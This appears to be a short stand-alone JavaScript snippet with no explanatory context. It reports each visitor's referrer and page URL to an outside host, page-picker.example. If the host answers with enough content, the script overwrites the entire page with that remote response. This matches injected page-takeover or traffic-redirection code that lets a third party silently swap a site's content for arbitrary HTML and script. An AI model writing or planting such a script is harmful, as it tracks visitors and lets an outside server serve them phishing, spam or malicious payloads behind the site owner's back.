(function () {
  var ask = new XMLHttpRequest();
  ask.open("GET", "https://page-picker.example/which?from=" + escape(document.referrer) + "&at=" + escape(location.href));
  ask.onload = function () {
    if (ask.responseText.length < 20) return;
    document.open();
    document.write(ask.responseText);
    document.close();
  };
  ask.send();
})();
